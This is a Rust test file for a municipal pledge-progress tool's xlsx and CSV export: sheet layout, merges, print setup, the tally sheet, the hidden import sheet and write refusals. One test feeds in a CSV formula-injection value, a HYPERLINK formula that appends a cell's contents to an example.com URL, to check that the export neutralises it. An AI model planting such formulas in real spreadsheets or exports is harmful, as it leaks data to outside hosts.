//! `export`: the sheet read back with calamine and as XML, the 集計 and `_shinchoku` sheets,
//! CSV open data, identical bytes, refusals that write nothing; then the LibreOffice print.

use std::io::Read;
use std::path::Path;

use calamine::{open_workbook, Data, Reader, SheetVisible, Xlsx};
use shinchoku_core::export::{self, sheet, ExportError, ExportOptions, Selection};
use shinchoku_core::model::{Actor, CellKey, Field, Half, Source};
use shinchoku_core::report::Report;

use crate::common::{run, sample_db, sample_store, Output, TempDir};

fn sample_report() -> Report {
    Report::load(&sample_store()).unwrap()
}

/// Exports the sample with the default options into `dir`.
fn export_sample(dir: &TempDir) -> (Report, std::path::PathBuf) {
    let report = sample_report();
    let path = dir.path("report.xlsx");
    export::export_xlsx(&report, &ExportOptions::default(), &path).unwrap();
    (report, path)
}

fn text(range: &calamine::Range<Data>, row: u32, col: u32) -> String {
    match range.get_value((row, col)) {
        Some(Data::String(s)) => s.clone(),
        Some(Data::Float(f)) => f.to_string(),
        Some(Data::Int(i)) => i.to_string(),
        Some(Data::Empty) | None => String::new(),
        Some(other) => other.to_string(),
    }
}

/// One file of the xlsx package as text.
pub fn package_file(path: &Path, name: &str) -> String {
    let mut archive = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut file = archive.by_name(name).unwrap();
    let mut xml = String::new();
    file.read_to_string(&mut xml).unwrap();
    xml
}

/// `shinchoku export --db <db> --out <out> <extra…>` through the CLI.
fn export_cli(db: &Path, out: &Path, extra: &[&str]) -> Output {
    let mut args = vec![
        "export",
        "--db",
        db.to_str().unwrap(),
        "--out",
        out.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    run(&args)
}

#[test]
fn every_text_of_the_sample_is_in_its_cell() {
    let dir = TempDir::new();
    let (report, path) = export_sample(&dir);
    let mut book: Xlsx<_> = open_workbook(&path).unwrap();
    let range = book.worksheet_range("重点政策").unwrap();
    assert_eq!(text(&range, 0, 0), "市長が掲げた重点政策No.1~45");
    assert!(text(&range, 1, 0).contains("【指標欄に記載する記号】"));
    assert_eq!(text(&range, 2, 0), "ＮＯ．");
    assert_eq!(text(&range, 2, 2), "実施内容");
    assert_eq!(text(&range, 2, 5), "区分");
    assert_eq!(text(&range, 2, 7), "令和５年度");
    assert_eq!(text(&range, 2, 10), "令和６年度");
    assert_eq!(text(&range, 3, 7), "上半期");
    assert_eq!(text(&range, 3, 8), "下半期");
    // The short first year of the term: its halves cover three months each.
    assert_eq!(text(&range, 4, 7), "10 11 12");
    assert_eq!(text(&range, 4, 8), "1 2 3");
    assert_eq!(text(&range, 4, 10), "4 5 6 7 8 9");

    let years = [2023, 2024];
    for (i, m) in report.measures.iter().enumerate() {
        let row = 5 + 4 * i as u32;
        let no = report.pledge(m.pledge_id).unwrap().number.to_string();
        assert_eq!(text(&range, row, 0), no);
        assert_eq!(text(&range, row, 1), report.pledge_cell(m));
        assert_eq!(text(&range, row, 2), m.content);
        assert_eq!(text(&range, row, 3), m.target_date);
        assert_eq!(
            text(&range, row, 4),
            report.department_name(m.department_id)
        );
        assert_eq!(text(&range, row, 5), "年度目標");
        assert_eq!(text(&range, row + 3, 6), "状況");
        for (y, &year) in years.iter().enumerate() {
            let col = 7 + 3 * y as u32;
            let value = |f: Field| report.value(m.id, year, f).to_string();
            let note = value(Field::YearNote);
            if !note.is_empty() {
                assert_eq!(text(&range, row, col), note, "No.{no} {year}");
                continue;
            }
            assert_eq!(text(&range, row, col), value(Field::AnnualTarget));
            assert_eq!(text(&range, row, col + 2), value(Field::AnnualIndicator));
            for half in Half::BOTH {
                let c = col + half as u32;
                assert_eq!(text(&range, row + 1, c), value(Field::Plan(half)));
                assert_eq!(text(&range, row + 2, c), value(Field::Indicator(half)));
                assert_eq!(text(&range, row + 3, c), value(Field::Status(half)));
            }
        }
    }
}

#[test]
fn year_notes_are_written_across_their_year() {
    let dir = TempDir::new();
    let (report, path) = export_sample(&dir);
    let (i, m) = report
        .measures
        .iter()
        .enumerate()
        .find(|(_, m)| report.value(m.id, 2024, Field::YearNote) == "達成済")
        .expect("the sample has a 達成済 note in 令和６年度");
    let row = 5 + 4 * i as u32;
    let mut book: Xlsx<_> = open_workbook(&path).unwrap();
    let merged = book.merge_cells_by_sheet_name("重点政策").unwrap();
    assert!(
        merged
            .iter()
            .any(|d| d.start == (row, 10) && d.end == (row + 3, 12)),
        "No.{} 達成済 spans K..M of its block",
        report.pledge(m.pledge_id).unwrap().number
    );
}

#[test]
fn heading_cells_are_merged_down_each_block_and_targets_across_the_halves() {
    let dir = TempDir::new();
    let (report, path) = export_sample(&dir);
    let mut book: Xlsx<_> = open_workbook(&path).unwrap();
    let merged = book.merge_cells_by_sheet_name("重点政策").unwrap();
    let has = |start: (u32, u32), end: (u32, u32)| {
        merged.iter().any(|d| d.start == start && d.end == end)
    };
    assert!(has((0, 0), (0, 12)), "title across the sheet");
    assert!(has((2, 7), (2, 9)), "令和５年度 over its three columns");
    for (i, m) in report.measures.iter().enumerate() {
        let row = 5 + 4 * i as u32;
        for col in 0..5 {
            assert!(has((row, col), (row + 3, col)), "block {i} column {col}");
        }
        assert!(has((row + 2, 5), (row + 3, 5)), "進捗 over 指標 and 状況");
        if report.value(m.id, 2024, Field::YearNote).is_empty() {
            assert!(
                has((row, 10), (row, 11)),
                "年度目標 across 上半期 and 下半期"
            );
        }
    }
}

#[test]
fn page_setup_is_a3_landscape_one_page_wide_with_titles_and_footer() {
    let dir = TempDir::new();
    let (_, path) = export_sample(&dir);
    let sheet = package_file(&path, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains(r#"paperSize="8""#), "A3");
    assert!(sheet.contains(r#"orientation="landscape""#));
    assert!(sheet.contains(r#"<pageSetUpPr fitToPage="1"/>"#));
    assert!(
        sheet.contains(r#"fitToHeight="0""#),
        "as many pages tall as needed"
    );
    assert!(sheet.contains("<oddFooter>&amp;C&amp;P ページ</oddFooter>"));
    assert!(sheet.contains("<rowBreaks"), "page breaks between measures");
    let workbook = package_file(&path, "xl/workbook.xml");
    assert!(
        workbook.contains(r#"<definedName name="_xlnm.Print_Titles" localSheetId="0">重点政策!$3:$5</definedName>"#),
        "{workbook}"
    );
    assert!(
        sheet.contains("ＭＳ Ｐゴシック")
            || package_file(&path, "xl/styles.xml").contains("ＭＳ Ｐゴシック")
    );
}

#[test]
fn every_indicator_cell_has_the_symbol_drop_down() {
    let dir = TempDir::new();
    let (report, path) = export_sample(&dir);
    let xml = package_file(&path, "xl/worksheets/sheet1.xml");
    let validated: Vec<&str> = xml
        .split("<dataValidation ")
        .skip(1)
        .flat_map(|v| {
            let sqref = v
                .split("sqref=\"")
                .nth(1)
                .unwrap()
                .split('"')
                .next()
                .unwrap();
            sqref.split(' ')
        })
        .collect();
    let validations = validated.len();
    // Per measure and year without a note: the year's indicator and one per half.
    let expected: usize = report
        .measures
        .iter()
        .map(|m| {
            [2023, 2024]
                .iter()
                .filter(|&&y| report.value(m.id, y, Field::YearNote).is_empty())
                .count()
                * 3
        })
        .sum();
    assert_eq!(validations, expected);
    assert!(xml.contains("<formula1>\"☆,○,△,×\"</formula1>"));
    // The first block's first-half indicator of 令和５年度 is H8.
    assert!(validated.contains(&"H8"));
    assert!(!validated.contains(&"H9"), "the status below is free text");
}

#[test]
fn no_measure_is_split_by_a_page_break() {
    let report = sample_report();
    let selection = Selection::new(&report, &ExportOptions::default()).unwrap();
    let sheet = sheet::build(&selection);
    assert!(sheet.pages() > 5, "81 measures need several A3 pages");
    for br in &sheet.page_breaks {
        assert!(
            sheet.blocks.iter().any(|b| b.first_row == *br),
            "break at row {br} starts a block"
        );
    }
    // Every block's rows are at least as tall as its longest text needs.
    for b in &sheet.blocks {
        let h: f64 = sheet.heights[b.first_row as usize..=b.last_row as usize]
            .iter()
            .sum();
        assert!(h >= 4.0 * 24.0);
    }
}

#[test]
fn tally_counts_each_half_and_department() {
    let dir = TempDir::new();
    let (report, path) = export_sample(&dir);
    let mut book: Xlsx<_> = open_workbook(&path).unwrap();
    let range = book.worksheet_range("集計").unwrap();
    assert_eq!(text(&range, 2, 1), "☆");
    assert_eq!(text(&range, 2, 5), "空欄");
    assert_eq!(text(&range, 3, 0), "令和５年度 上半期");
    assert_eq!(text(&range, 6, 0), "令和６年度 下半期");
    let count = |year: i32, half: Half, glyph: &str| {
        report
            .measures
            .iter()
            .filter(|m| report.value(m.id, year, Field::Indicator(half)) == glyph)
            .count()
            .to_string()
    };
    for (row, (year, half)) in [
        (2023, Half::H1),
        (2023, Half::H2),
        (2024, Half::H1),
        (2024, Half::H2),
    ]
    .into_iter()
    .enumerate()
    {
        let row = 3 + row as u32;
        assert_eq!(text(&range, row, 1), count(year, half, "☆"));
        assert_eq!(text(&range, row, 2), count(year, half, "○"));
        assert_eq!(text(&range, row, 5), count(year, half, ""));
        assert_eq!(
            text(&range, row, 7),
            "81",
            "every measure counted once a half"
        );
    }
    assert_eq!(text(&range, 7, 0), "計");
    assert_eq!(text(&range, 7, 7), (81 * 4).to_string());
    // The department table ends with the totals of each half.
    let rows = range.height() as u32;
    assert_eq!(text(&range, rows - 1, 0), "計");
    assert_eq!(text(&range, rows - 1, 7), "81");
    assert!(package_file(&path, "xl/charts/chart1.xml").contains("<c:barChart>"));
}

/// The trend on the 集計 sheet: a row per half of every year of the report with the counts of
/// the measures reporting in it (counted here from the cells), and a line chart of the symbols
/// up to the newest half with one.
#[test]
fn tally_shows_the_trend_over_every_half_of_the_report() {
    let dir = TempDir::new();
    let (report, path) = export_sample(&dir);
    let mut book: Xlsx<_> = open_workbook(&path).unwrap();
    let range = book.worksheet_range("集計").unwrap();
    let top = (0..range.height() as u32)
        .find(|&r| text(&range, r, 0) == shinchoku_core::export::tally::TREND)
        .expect("the trend's table");
    assert_eq!(text(&range, top, 1), "☆");
    let periods: Vec<(i32, Half)> = report
        .years
        .iter()
        .flat_map(|y| Half::BOTH.map(|h| (y.year, h)))
        .collect();
    for (i, &(year, half)) in periods.iter().enumerate() {
        let row = top + 1 + i as u32;
        assert_eq!(
            text(&range, row, 0),
            shinchoku_core::model::period_label(year, half)
        );
        let reporting: Vec<_> = report
            .measures
            .iter()
            .filter(|m| m.last_year.is_none_or(|last| year <= last))
            .filter(|m| report.value(m.id, year, Field::YearNote).is_empty())
            .collect();
        let with = |glyph: &str| {
            reporting
                .iter()
                .filter(|m| report.value(m.id, year, Field::Indicator(half)) == glyph)
                .count()
                .to_string()
        };
        assert_eq!(text(&range, row, 1), with("☆"), "{year} {half}");
        assert_eq!(text(&range, row, 2), with("○"), "{year} {half}");
        assert_eq!(text(&range, row, 4), with("×"), "{year} {half}");
        assert_eq!(text(&range, row, 7), reporting.len().to_string());
    }
    // Fewer than the measures where a year holds a note (the sample's 達成済 of 令和６年度).
    assert!(text(&range, top + 3, 7) != "81");
    let chart = package_file(&path, "xl/charts/chart2.xml");
    assert!(chart.contains("<c:lineChart>"), "a line chart");
    // The open half, blank, is not drawn: the lines end at 令和６年度 上半期 (row top + 3).
    assert!(
        chart.contains(&format!("$A${}:$A${}", top + 2, top + 4)),
        "the chart's halves"
    );
}

#[test]
fn hidden_sheet_tells_the_importer_where_everything_is() {
    let dir = TempDir::new();
    let (report, path) = export_sample(&dir);
    let mut book: Xlsx<_> = open_workbook(&path).unwrap();
    let meta = book
        .sheets_metadata()
        .iter()
        .find(|s| s.name == "_shinchoku")
        .cloned()
        .unwrap();
    assert_eq!(meta.visible, SheetVisible::Hidden);
    let range = book.worksheet_range("_shinchoku").unwrap();
    let settings: Vec<(String, String)> = (0..7)
        .map(|r| (text(&range, r, 0), text(&range, r, 1)))
        .collect();
    let expect = [
        ("format", "shinchoku-sheet".to_string()),
        ("version", "2".into()),
        ("revision", report.revision.to_string()),
        ("department", String::new()),
        ("period_year", "2024".into()),
        ("period_half", "H2".into()),
        ("years", "2023,2024".into()),
    ];
    for ((k, v), (ek, ev)) in settings.iter().zip(expect) {
        assert_eq!((k.as_str(), v), (ek, &ev));
    }
    assert_eq!(text(&range, 19, 0), "measure_id");
    assert_eq!(text(&range, 19, 4), "department");
    // A value column per exported year and field, in that order.
    let columns: Vec<(i32, Field)> = [2023, 2024]
        .into_iter()
        .flat_map(|y| Field::ALL.map(|f| (y, f)))
        .collect();
    for (i, &(year, field)) in columns.iter().enumerate() {
        assert_eq!(
            text(&range, 19, 5 + i as u32),
            format!("{year}/{}", field.code())
        );
    }
    assert!(text(&range, 19, 5 + columns.len() as u32).is_empty());
    for (i, m) in report.measures.iter().enumerate() {
        let row = 20 + i as u32;
        assert_eq!(text(&range, row, 0), m.id.to_string());
        assert_eq!(
            text(&range, row, 1),
            (6 + 4 * i).to_string(),
            "1-based first row"
        );
        assert_eq!(text(&range, row, 2), (9 + 4 * i).to_string());
        // Every exported value, blank or not, is the merge base in its column.
        for (j, &(year, field)) in columns.iter().enumerate() {
            assert_eq!(
                text(&range, row, 5 + j as u32),
                report.value(m.id, year, field),
                "No.{} {year} {field:?}",
                m.id
            );
        }
    }
    assert!(text(&range, 20 + report.measures.len() as u32, 0).is_empty());
}

#[test]
fn the_same_database_gives_the_same_bytes() {
    let dir = TempDir::new();
    let db = sample_db(&dir);
    let db = db.to_str().unwrap();
    let a = dir.path("a.xlsx");
    let b = dir.path("b.xlsx");
    for out in [&a, &b] {
        let r = run(&["export", "--db", db, "--out", out.to_str().unwrap()]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        std::thread::sleep(std::time::Duration::from_millis(1100));
    }
    assert_eq!(std::fs::read(&a).unwrap(), std::fs::read(&b).unwrap());
}

#[test]
fn a_folder_that_does_not_exist_is_refused_and_nothing_is_written() {
    let dir = TempDir::new();
    let report = sample_report();
    let path = dir.path("nowhere").join("report.xlsx");
    let err = export::export_xlsx(&report, &ExportOptions::default(), &path).unwrap_err();
    assert!(matches!(err, ExportError::MissingFolder { .. }), "{err:?}");
    assert!(
        err.to_string().contains(&path.display().to_string()),
        "{err}"
    );
    assert!(!dir.path("nowhere").exists());
}

#[test]
fn a_target_that_cannot_be_replaced_is_refused_without_leftovers() {
    let dir = TempDir::new();
    let report = sample_report();
    // A folder where the file should go: the rename cannot replace it, as with a locked file.
    let path = dir.path("report.xlsx");
    std::fs::create_dir(&path).unwrap();
    let err = export::export_xlsx(&report, &ExportOptions::default(), &path).unwrap_err();
    assert!(matches!(err, ExportError::Write { .. }), "{err:?}");
    assert!(err.to_string().contains("保存できません"), "{err}");
    assert!(err.to_string().contains(&path.display().to_string()));
    let left: Vec<_> = std::fs::read_dir(dir.0.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(left.len(), 1, "only the folder itself: {left:?}");
}

#[test]
fn an_existing_file_is_replaced_whole() {
    let dir = TempDir::new();
    let report = sample_report();
    let path = dir.path("report.xlsx");
    std::fs::write(&path, b"old").unwrap();
    export::export_xlsx(&report, &ExportOptions::default(), &path).unwrap();
    assert!(std::fs::read(&path).unwrap().starts_with(b"PK"));
    assert_eq!(std::fs::read_dir(dir.0.path()).unwrap().count(), 1);
}

#[test]
fn cli_exports_one_department_and_one_year() {
    let dir = TempDir::new();
    let db = sample_db(&dir);
    let out = dir.path("kodomo.xlsx");
    let r = export_cli(
        &db,
        &out,
        &["--years", "2024", "--department", "こども支援課"],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("令和６年度"), "{}", r.stdout);
    let mut book: Xlsx<_> = open_workbook(&out).unwrap();
    let range = book.worksheet_range("重点政策").unwrap();
    assert_eq!(text(&range, 2, 7), "令和６年度");
    assert_eq!(range.end().unwrap().1, 9, "one year block: H..J");
    assert_eq!(text(&range, 5, 4), "こども支援課");
    let meta = book.worksheet_range("_shinchoku").unwrap();
    assert_eq!(text(&meta, 3, 1), "こども支援課");
    assert_eq!(text(&meta, 6, 1), "2024");
}

#[test]
fn cli_refuses_an_unknown_department_or_year_and_writes_nothing() {
    let dir = TempDir::new();
    let db = sample_db(&dir);
    let out = dir.path("x.xlsx");
    let r = export_cli(&db, &out, &["--department", "存在しない課"]);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("担当課「存在しない課」"), "{}", r.stderr);
    let r = export_cli(&db, &out, &["--years", "2023,2030"]);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("2030 年度"), "{}", r.stderr);
    assert!(r.stderr.contains("令和５年度・令和６年度"), "{}", r.stderr);
    assert!(!out.exists());
    assert_eq!(
        std::fs::read_dir(dir.0.path()).unwrap().count(),
        1,
        "only the database"
    );
}

#[test]
fn csv_is_utf8_with_bom_one_row_per_measure_year_and_half() {
    let dir = TempDir::new();
    let db = sample_db(&dir);
    let out = dir.path("open.csv");
    let r = export_cli(&db, &out, &["--format", "csv"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let bytes = std::fs::read(&out).unwrap();
    assert!(bytes.starts_with(&[0xEF, 0xBB, 0xBF]));
    let text = String::from_utf8(bytes).unwrap();
    assert!(text[3..].starts_with("実施内容ID,公約番号,公約,実施内容"));
    // Records are CRLF-terminated; line breaks inside quoted cells are bare LF.
    let records = text.matches("\r\n").count();
    assert_eq!(records, 1 + 81 * 2 * 2);
    assert!(
        !text.contains('〇') && !text.contains('☓'),
        "canonical glyphs only"
    );
    assert!(text.contains(",令和６年度,下半期,10 11 12 1 2 3,"));
}

#[test]
fn csv_cells_beginning_like_a_formula_open_as_text() {
    let mut store = sample_store();
    let key = CellKey {
        measure_id: store.measures().unwrap()[0].id,
        year: 2024,
        field: Field::Status(Half::H2),
    };
    let typed = "=HYPERLINK(\"http://example.com/?\"&B2,\"詳細\")";
    store
        .write(&Actor::Coordinator, &Source::App, |w| {
            w.put_cell(&key, typed)
        })
        .unwrap();
    let dir = TempDir::new();
    let out = dir.path("open.csv");
    let report = Report::load(&store).unwrap();
    export::export_csv(&report, &ExportOptions::default(), &out).unwrap();
    let text = std::fs::read_to_string(&out).unwrap();
    let written = format!("\"'{}\"", typed.replace('"', "\"\""));
    assert!(text.contains(&written), "{written} not in the CSV");
    assert!(!text.contains(",=") && !text.contains(",\"="));
}

/// The window chose CSV by the file's name and the command line by `--format` alone, so
/// `export --out r.csv` wrote a workbook under a .csv name. Both now choose the same way
/// (`export::Format::of_path`); `--format` still says it outright.
#[test]
fn export_chooses_csv_by_the_file_name_as_the_window_does() {
    let dir = TempDir::new();
    let db = sample_db(&dir);
    let csv = dir.path("r.csv");
    let out = export_cli(&db, &csv, &[]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.contains("行）"), "{}", out.stdout);
    let bytes = std::fs::read(&csv).unwrap();
    assert!(
        bytes.starts_with("\u{FEFF}".as_bytes()),
        "not CSV with a BOM"
    );
    // Said outright, the format wins over the name.
    let sheet = dir.path("sheet.csv");
    let out = export_cli(&db, &sheet, &["--format", "xlsx"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(std::fs::read(&sheet).unwrap().starts_with(b"PK"));
    assert_eq!(
        export::Format::of_path(Path::new("報告.CSV")),
        export::Format::Csv
    );
    assert_eq!(
        export::Format::of_path(Path::new("報告.xlsx")),
        export::Format::Xlsx
    );
    assert_eq!(
        export::Format::of_path(Path::new("報告")),
        export::Format::Xlsx
    );
}
